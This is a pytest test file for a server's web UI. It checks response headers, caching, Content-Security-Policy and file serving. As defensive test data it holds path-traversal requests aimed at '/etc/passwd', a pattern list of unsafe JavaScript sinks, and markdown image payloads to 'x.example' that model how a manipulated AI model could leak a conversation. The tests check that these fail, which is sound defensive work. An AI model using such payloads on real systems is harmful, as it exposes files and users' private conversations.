"""The web UI's files: who gets them, with which headers, and that they are text and our own."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from importlib.resources import files
from pathlib import Path
from typing import TYPE_CHECKING

import httpx
import pytest

from support.servers import post_bytes
from twostroke.server.web_ui import bundle
from twostroke.server.web_ui.bundle import IMPORT
from twostroke.server.web_ui.site import MEDIA_TYPES, Site

if TYPE_CHECKING:
    from collections.abc import Iterator

    from support.servers import LiveServer

STATIC = Path(str(files("twostroke.server.web_ui"))) / "static"
SOURCES = sorted(path for path in STATIC.rglob("*") if path.is_file())
SCRIPTS = [path for path in SOURCES if path.suffix == ".js"]
PAGES = ("index.html", "fleet.html")  # of a server, and of a router
BROWSER = {"accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
MAX_LINES = 400


def named_by(page: str) -> list[str]:
    return re.findall(r'(?:href|src)="page/([^"]+)"', (STATIC / page).read_text())


@pytest.fixture
def http(server: LiveServer) -> Iterator[httpx.Client]:
    """Yield a client without checks, as the OpenAPI document does not describe the page's files."""
    with httpx.Client(base_url=server.url, trust_env=False) as client:
        yield client


def test_browsers_get_the_page_and_programs_get_json(http: httpx.Client) -> None:
    page = http.get("/", headers=BROWSER)
    assert page.headers["content-type"] == "text/html; charset=utf-8"
    assert page.text.startswith("<!doctype html>")
    program = http.get("/")
    assert program.json()["name"] == "twostroke"
    assert page.headers["vary"] == program.headers["vary"] == "accept"


def test_head_is_answered_without_a_body(http: httpx.Client) -> None:
    head = http.head("/", headers=BROWSER)
    assert head.status_code == 200
    assert not head.content
    assert int(head.headers["content-length"]) > 1000


def test_the_page_takes_few_requests_which_bring_all_of_it(http: httpx.Client) -> None:
    named = named_by("index.html")
    assert len(named) <= 4
    assert set(Site()) == {"index.html", *named}
    all_text = ""
    for name in named:
        answer = http.get(f"/page/{name}")
        assert answer.headers["content-type"] == MEDIA_TYPES[Path(name).suffix]
        all_text += answer.text
    for path in SOURCES:
        lines = path.read_text().splitlines()
        is_of_router = path.stem == "fleet" or path.parent.name == "fleet"
        assert is_of_router or path.stem == "index" or lines[0] in all_text, path.name


def test_unchanged_file_is_not_sent_again(http: httpx.Client) -> None:
    first = http.get("/page/app.js")
    tag = first.headers["etag"]
    assert first.headers["cache-control"] == "no-cache"
    for client_etags in (tag, f"W/{tag}", f'"other", {tag}', "*"):
        response = http.get("/page/app.js", headers={"if-none-match": client_etags})
        assert response.status_code == 304
        assert not response.content
        assert response.headers["etag"] == tag
    changed = http.get("/page/app.js", headers={"if-none-match": '"other"'})
    assert changed.status_code == 200
    headers = {"if-none-match": http.get("/", headers=BROWSER).headers["etag"]}
    assert http.get("/", headers=BROWSER | headers).status_code == 304
    assert http.get("/", headers=headers).json()["name"] == "twostroke"


@pytest.mark.parametrize("path", ["/", "/page/app.js", "/page/style.css", "/page/icon.svg"])
def test_pages_are_held_to_their_own_server(http: httpx.Client, path: str) -> None:
    headers = http.get(path, headers=BROWSER).headers
    policy = dict(part.split(" ", 1) for part in headers["content-security-policy"].split("; "))
    assert policy["default-src"] == "'none'"
    assert policy["frame-ancestors"] == "'none'"
    assert policy["require-trusted-types-for"] == "'script'"
    sources = {value for name, value in policy.items() if name.endswith("-src")}
    assert sources == {"'none'", "'self'"}
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize(
    "path",
    [
        "/page/",
        "/page/nope.js",
        "/page/style",
        "/page/../site.py",
        "/page/..%2fsite.py",
        "/page/%2e%2e/site.py",
        "/page/..%5csite.py",
        "/page//etc/passwd",
        "/page/%2fetc%2fpasswd",
        "/page/app.js%00",
        "/page/./app.js",
        "/page/shared/../app.js",
        "/page/style/base.css",
    ],
)
def test_only_names_of_files_lead_to_files(server: LiveServer, path: str) -> None:
    with server.connect() as connection:
        connection.sendall(
            f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
        )
        answer = b"".join(iter(lambda: connection.recv(65536), b""))
    assert answer.startswith(b"HTTP/1.1 404 ")
    assert b'"error"' in answer


def test_files_are_only_read(server: LiveServer) -> None:
    with server.connect() as connection:
        connection.sendall(post_bytes("/page/app.js", {}, headers="Connection: close\r\n"))
        answer = b"".join(iter(lambda: connection.recv(65536), b""))
    assert answer.startswith(b"HTTP/1.1 405 ")


def test_files_do_not_name_other_hosts() -> None:
    allowed = {"http://www.w3.org/2000/svg"}  # a name, not an address
    for path in SOURCES:
        for address in re.findall(r"https?://[a-z0-9][^\s\"'`)<>]*", path.read_text()):
            assert address in allowed, f"{path.name}: {address}"
        assert not re.search(r"""["'(]//[a-z]""", path.read_text()), path.name


def test_nothing_becomes_markup_or_code() -> None:
    unsafe = r"innerHTML|outerHTML|insertAdjacentHTML|document\.write\(|\beval\(|new Function"
    for path in SCRIPTS:
        assert not re.search(f"{unsafe}|DOMParser", path.read_text()), path.name
    for page in PAGES:
        text = (STATIC / page).read_text()
        assert not re.search(r"<style|style=|\son\w+=|<script(?![^>]*src=)", text)


def test_every_file_that_is_named_is_there_and_used() -> None:
    used = {STATIC / name for page in PAGES for name in (page, *named_by(page))}
    for path in SCRIPTS:
        used |= {(path.parent / name).resolve() for _, name in IMPORT.findall(path.read_text())}
    sheets = re.findall(r'@import "([^"]+)"', (STATIC / "style.css").read_text())
    used |= {STATIC / name for name in sheets}
    assert used == {path.resolve() for path in SOURCES}


def test_imported_names_are_exported() -> None:
    for path in SCRIPTS:
        for names, source in IMPORT.findall(path.read_text()):
            exporting = (path.parent / source).read_text()
            for name in filter(None, (name.strip() for name in names.split(","))):
                exported = rf"^export (?:async )?(?:function\*? |class |const ){name}\b"
                assert re.search(exported, exporting, re.MULTILINE), f"{path.name}: {name}"


def test_bundled_modules_run_once_each_after_their_imports() -> None:
    modules = {
        "app.js": 'import { b } from "./x/b.js";\nimport { log } from "./log.js";\nlog(b);\n',
        "x/b.js": 'import { log } from "../log.js";\nexport const b = "app1";\nlog("b");\n',
        "log.js": "export const log = (text) => console.log(text);\nlog(typeof b);\n",
    }
    node = shutil.which("node")
    if node is None:
        pytest.skip("needs node, to run JavaScript")
    done = subprocess.run(
        [node, "-e", bundle.script(modules, "app.js")], capture_output=True, text=True, check=True
    )
    assert done.stdout.split() == ["undefined", "b", "app1"]


@pytest.mark.parametrize(
    "source",
    [
        'import { a } from "./app.js";\n',
        'import { a } from "./nowhere.js";\n',
        'import { a } from "./b.js";\nexport default 3;\n',
    ],
)
def test_modules_that_cannot_be_joined_are_an_error(source: str) -> None:
    with pytest.raises(ValueError, match=r"\.js"):
        bundle.script({"app.js": source, "b.js": "export const a = 1;\n"}, "app.js")


def test_every_script_parses() -> None:
    node = shutil.which("node")
    if node is None:
        pytest.skip("needs node, to parse JavaScript")
    code = (
        "const { readFileSync } = require('fs'); const { SourceTextModule } = require('vm');"
        "for (const path of process.argv.slice(1))"
        " new SourceTextModule(readFileSync(path, 'utf8'), { identifier: path });"
    )
    command = [node, "--no-warnings", "--experimental-vm-modules", "-e", code, *map(str, SCRIPTS)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def test_every_file_says_its_one_job_and_is_small() -> None:
    for path in SOURCES:
        text = path.read_text()
        beginning = {".js": "// ", ".css": "/* "}.get(path.suffix, "<")
        assert text.startswith(beginning), path.name
        assert text.count("\n") <= MAX_LINES, path.name


def test_pictures_in_an_answer_are_never_fetched() -> None:
    """A manipulated model could send a conversation to a stranger in the address of a picture."""
    node = shutil.which("node")
    if node is None:
        pytest.skip("needs node, to run JavaScript")
    names = ("markdown/inline.js", "markdown/blocks.js", "shared/dom.js")
    modules = {name: (STATIC / name).read_text() for name in names}
    modules["app.js"] = """import { toNodes } from "./markdown/inline.js";
        const parts = (node) => (node.tag ? [node.tag, ...node.inner.flatMap(parts)] : []);
        for (const text of JSON.parse(process.argv[1]))
          console.log(toNodes(text).flatMap(parts).join(" ") || "text");
        """
    document = """globalThis.document = { createElement: (tag) => ({
        tag, inner: [], setAttribute() {}, append(...more) { this.inner.push(...more); } }) };"""
    texts = {
        "![a](https://x.example/?q=secret)": "a",
        "**![a](https://x.example/a.png)**": "strong a",
        "[![a](https://x.example/a.png)](https://x.example)": "a a",
        "![a](data:image/png;base64,AA)": "span",
        "![a][b]": "text",
        "![a]": "text",
        "<img src=https://x.example/a.png>": "a",
        '<img src="//x.example/a.png">': "text",
    }
    script = document + bundle.script(modules, "app.js")
    command = [node, "-e", script, json.dumps(list(texts))]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    assert done.stdout.splitlines() == list(texts.values())
    assert not any("img" in source or "new Image" in source for source in modules.values())
